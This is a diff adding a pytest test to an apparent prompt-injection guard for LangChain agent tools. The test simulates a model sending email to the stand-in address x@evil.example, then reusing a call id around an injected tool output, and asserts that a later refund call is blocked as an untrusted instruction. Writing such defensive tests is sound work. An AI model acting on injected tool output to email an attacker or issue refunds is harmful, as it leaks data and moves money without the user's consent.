@@ -206,3 +206,25 @@ def test_guard_tool_wants_a_langchain_tool(session: ig.Session) -> None:
     """A plain function is refused with a message saying to wrap it with @tool."""
     with pytest.raises(ig.ConfigurationError, match="@tool"):
         guard_tool(len, session)  # type: ignore[arg-type]
+
+
+def test_a_reused_call_id_never_hides_a_tool_output(guard: ig.Guard, session: ig.Session, desk: Desk) -> None:
+    """A call id the model reuses after a refusal does not keep the next tool output (an injection) from the ledger."""
+    graph = tool_graph(session, desk)
+
+    def turn(name: str, call_id: str, **args: Any) -> dict[str, Any]:
+        return {"messages": [AIMessage(content="", tool_calls=[{**call(name, **args), "id": call_id}])]}
+
+    graph.invoke(
+        {
+            "messages": [
+                HumanMessage(USER),
+                *turn("send_email", "r1", to="x@evil.example", subject="s", body="b")["messages"],
+            ]
+        },
+        CONFIG,
+    )
+    graph.invoke(turn("search_kb", "r1", query="refunds"), CONFIG)
+    result = graph.invoke(turn("issue_refund", "r2", order_id="A123", amount=45.0), CONFIG)
+    assert desk.ran == ["search_kb"]
+    assert result["__interrupt__"][0].value["reasons"][0]["code"] == "UNTRUSTED_INSTRUCTION"
